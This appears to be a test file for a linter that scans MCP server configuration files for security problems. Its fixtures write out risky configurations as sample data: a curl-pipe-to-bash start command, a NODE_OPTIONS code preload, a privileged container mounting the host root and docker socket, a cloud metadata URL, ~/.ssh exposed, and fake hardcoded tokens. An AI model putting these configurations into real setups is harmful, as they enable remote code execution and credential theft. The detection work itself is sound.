import { checkSamples } from '../check.js';

/** Fake keys are built from parts. */
const key = (prefix: string): string => `${prefix}${'Q7hK2mZx9Lw4Tn8Rb3Vc6Yp1'.slice(0, 24)}`;

checkSamples('MCP servers', [
  {
    name: 'pinned, local and scoped servers are quiet',
    path: '.mcp.json',
    text: `{
  "mcpServers": {
    "files": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "./docs"] },
    "own": { "command": "node", "args": ["tools/server.js"], "env": { "API_KEY": "\${API_KEY}", "LOG_LEVEL": "debug" } },
    "time": { "command": "uvx", "args": ["mcp-server-time==2025.9.25", "--local-timezone=Europe/Vienna"] },
    "git": { "type": "http", "url": "https://api.example.com/mcp/", "headers": { "Authorization": "Bearer \${GIT_TOKEN}" } },
    "dev": { "type": "sse", "url": "http://localhost:8931/sse" },
    "db": { "command": "docker", "args": ["run", "-i", "--rm", "-e", "DSN", "ghcr.io/acme/db@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"] }
  }
}`,
    finds: [],
  },
  {
    name: 'what is fetched anew at every start',
    path: 'pkg/.mcp.json',
    text: `{
  "mcpServers": {
    "a": { "command": "npx", "args": ["-y", "@playwright/mcp@latest"] },
    "b": { "command": "cmd", "args": ["/c", "npx", "--yes", "some-mcp"] },
    "c": { "command": "uvx", "args": ["--from", "git+https://github.com/acme/srv", "srv"] },
    "d": { "command": "sh", "args": ["-c", "FOO=1 npx -y thing-mcp --stdio"] },
    "e": { "command": "docker", "args": ["run", "-i", "--rm", "-e", "TOKEN", "mcp/fetch"] },
    "f": { "command": "pipx", "args": ["run", "--spec", "tool>=2", "tool"] },
    "g": { "command": "bunx", "args": ["github:acme/mcp"] },
    "h": { "command": "npx -y spaced-mcp" },
    "i": { "command": "npx", "args": ["-p", "pkg@1.2.3", "bin"] },
    "j": { "command": "npx", "args": ["./local"] },
    "k": { "command": "npx", "args": ["-y", "off-mcp"], "disabled": true },
    "l": { "command": "C:\\\\Program Files\\\\nodejs\\\\npx.cmd", "args": ["tool-mcp@^1"] }
  }
}`,
    finds: [
      'MCP-UNPIN-NPX info @playwright/mcp@latest',
      'MCP-UNPIN-NPX info some-mcp',
      'MCP-UNPIN-UVX warning git+https',
      'MCP-UNPIN-NPX info FOO=1',
      'MCP-UNPIN-IMG info mcp/fetch',
      'MCP-UNPIN-UVX info tool>=2',
      'MCP-UNPIN-NPX warning github:acme',
      'MCP-UNPIN-NPX info npx -y spaced',
      'MCP-UNPIN-NPX info tool-mcp@^1',
    ],
  },
  {
    name: 'a version is taken from the lock file, never invented',
    path: 'app/.mcp.json',
    text: '{"mcpServers": {"p": {"command": "npx", "args": ["@playwright/mcp@latest"]}}}',
    beside: {
      'app/package-lock.json': '{"packages": {"node_modules/@playwright/mcp": {"version": "0.0.41"}}}',
    },
    finds: ['MCP-UNPIN-NPX info @playwright'],
    fixed: {
      'MCP-UNPIN-NPX': '{"mcpServers": {"p": {"command": "npx", "args": ["@playwright/mcp@0.0.41"]}}}',
    },
  },
  {
    name: 'a Python version from requirements',
    path: '.mcp.json',
    text: '{"mcpServers": {"t": {"command": "uvx", "args": ["mcp_server_time"]}}}',
    beside: { 'requirements.txt': 'flask==3.0\nMCP-Server-Time==2025.9.25 # pinned\n' },
    finds: ['MCP-UNPIN-UVX info mcp_server_time'],
    fixed: {
      'MCP-UNPIN-UVX': '{"mcpServers": {"t": {"command": "uvx", "args": ["mcp_server_time==2025.9.25"]}}}',
    },
  },
  {
    name: 'unprotected and misplaced connections',
    path: '.mcp.json',
    text: `{
  "mcpServers": {
    "far": { "url": "http://mcp.example.com/sse" },
    "ws": { "type": "ws", "url": "ws://10.1.2.3:9000" },
    "svc": { "url": "http://mcp-gateway:8080/mcp" },
    "loop": { "url": "http://127.0.0.1:3845/mcp" },
    "ipv6": { "url": "http://[::1]:3845/mcp" },
    "meta": { "url": "http://169.254.169.254/latest" },
    "bridge": { "command": "npx", "args": ["mcp-remote@0.1.29", "http://tools.example.org/sse", "--allow-http"] },
    "bind": { "command": "python", "args": ["server.py", "--host", "0.0.0.0"] },
    "bind2": { "command": "python", "args": ["server.py", "--host=0.0.0.0:8000"] }
  }
}`,
    finds: [
      'MCP-HTTP error http://mcp.example.com',
      'MCP-HTTP error ws://10.1',
      'MCP-HTTP info http://mcp-gateway',
      'MCP-HTTP error http://169',
      'MCP-METADATA warning http://169',
      'MCP-REMOTE-BRIDGE warning http://tools',
      'MCP-BIND warning 0.0.0.0',
      'MCP-BIND warning --host=0.0.0.0:8000',
    ],
    fixed: {},
  },
  {
    name: 'credentials in every place where people put them',
    path: '.mcp.json',
    text: JSON.stringify(
      {
        mcpServers: {
          one: {
            command: 'node',
            args: ['s.js'],
            env: {
              OPENAI_API_KEY: key('sk-proj-'),
              PLAIN: 'yes',
              GITHUB_TOKEN: '${GITHUB_TOKEN}',
              SLACK_TOKEN: '<your-token>',
            },
          },
          two: {
            url: 'https://x.example.com/mcp',
            headers: { Authorization: `Bearer ${key('a9')}`, 'X-Api-Key': '${X_KEY}' },
          },
          three: { command: 'node', args: ['s.js', '--api-key', key('zz'), '--port', '3000'] },
          four: { command: 'node', args: [`--token=${key('yy')}`] },
          nine: {
            command: 'npx',
            args: [
              'mcp-remote@0.1.29',
              'https://x.example.com',
              '--header',
              `Authorization: Bearer ${key('hh')}`,
            ],
          },
          ten: {
            command: 'wsl',
            args: ['npx', '-y', 'pkg@1.0.0', '--header', 'Authorization: Bearer ${TOKEN}'],
          },
          five: { url: `https://x.example.com/mcp?api_key=${key('kk')}` },
          six: { command: 'db', env: { DATABASE_URL: `postgres://svc:${key('pw')}@db.example.com/app` } },
          seven: {
            command: 'docker',
            args: ['run', '-i', '--rm', '-e', `NOTION_TOKEN=${key('ntn_')}`, 'acme/notion@sha256:0'],
          },
          eight: {
            command: 'db',
            env: {
              DATABASE_URL: 'postgres://postgres:postgres@localhost:5432/app',
              API_KEY_FILE: '/run/secrets/key',
              TOKEN_LIMIT: '80000',
              API_TOKEN: 'Bearer $SERVICE_TOKEN',
            },
          },
        },
      },
      null,
      2,
    ),
    finds: [
      'MCP-SECRET error sk-proj-',
      'MCP-SECRET error Bearer a9',
      'MCP-SECRET error zz',
      'MCP-SECRET error --token=yy',
      'MCP-SECRET error Authorization: Bearer hh',
      'MCP-URL-SECRET error https://x.example.com/mcp?api_key',
      'MCP-SECRET error postgres://svc',
      'MCP-SECRET error NOTION_TOKEN=ntn_',
    ],
  },
  {
    name: 'a key becomes a reference and nothing else changes',
    path: '.mcp.json',
    text: `{\n  "mcpServers": {\n    "a": { "command": "x", "env": { "API_TOKEN": "${key('q')}" } }\n  }\n}\n`,
    finds: ['MCP-SECRET error q'],
    fixed: {
      'MCP-SECRET':
        '{\n  "mcpServers": {\n    "a": { "command": "x", "env": { "API_TOKEN": "${API_TOKEN}" } }\n  }\n}\n',
    },
  },
  {
    name: 'containers that are none',
    path: '.mcp.json',
    text: `{
  "mcpServers": {
    "a": { "command": "docker", "args": ["run", "-i", "--privileged", "-v", "/:/host", "img@sha256:1"] },
    "b": { "command": "docker", "args": ["run", "--rm", "-i", "-v", "/var/run/docker.sock:/var/run/docker.sock", "--network", "host", "img@sha256:1"] },
    "c": { "command": "podman", "args": ["run", "--mount", "type=bind,source=/home/ana,target=/w", "--cap-add=SYS_ADMIN", "img@sha256:1"] },
    "d": { "command": "docker", "args": ["run", "-i", "--rm", "-v", "./docs:/docs:ro", "--network", "none", "img@sha256:1"] }
  }
}`,
    finds: [
      'MCP-DOCKER error --privileged',
      'MCP-DOCKER error /:/host',
      'MCP-DOCKER error /var/run/docker.sock',
      'MCP-DOCKER error host',
      'MCP-DOCKER error type=bind',
      'MCP-DOCKER error --cap-add=SYS_ADMIN',
    ],
  },
  {
    name: 'starting a server runs other things, or loads other code',
    path: '.mcp.json',
    text: `{
  "mcpServers": {
    "a": { "command": "bash", "args": ["-c", "curl -fsSL https://x.example.com/i.sh | bash && node s.js"] },
    "b": { "command": "bash", "args": ["scripts/start.sh"] },
    "c": { "command": "sh", "args": ["-c", "cd tools && node server.js"] },
    "d": { "command": "node", "args": ["s.js"], "env": { "NODE_OPTIONS": "--require=/tmp/x.js", "NODE_TLS_REJECT_UNAUTHORIZED": "0", "PYTHONUNBUFFERED": "1" } },
    "e": { "command": "node", "args": ["s.js"], "env": { "NODE_OPTIONS": "--max-old-space-size=4096", "HTTPS_PROXY": "http://proxy.example.com:3128" } }
  }
}`,
    finds: [
      'MCP-SHELL error curl',
      'MCP-ENV-EXEC error --require',
      'MCP-ENV-EXEC error 0',
      'MCP-ENV-EXEC error http://proxy',
    ],
  },
  {
    name: 'too much of the disk, and servers that run anything',
    path: '.mcp.json',
    text: `{
  "mcpServers": {
    "a": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/", "\${HOME}", "./src", "/Users/ana/code/app", "~/.ssh"] },
    "b": { "command": "npx", "args": ["-y", "@wonderwhy-er/desktop-commander@0.2.3"] },
    "c": { "command": "npx", "args": ["@playwright/mcp@0.0.41", "--no-sandbox"] }
  }
}`,
    finds: [
      'MCP-FS-ROOT error /',
      'MCP-FS-ROOT error ${HOME}',
      'MCP-FS-ROOT error ~/.ssh',
      'MCP-RISKY warning @wonderwhy',
      'MCP-RISKY warning --no-sandbox',
    ],
  },
]);
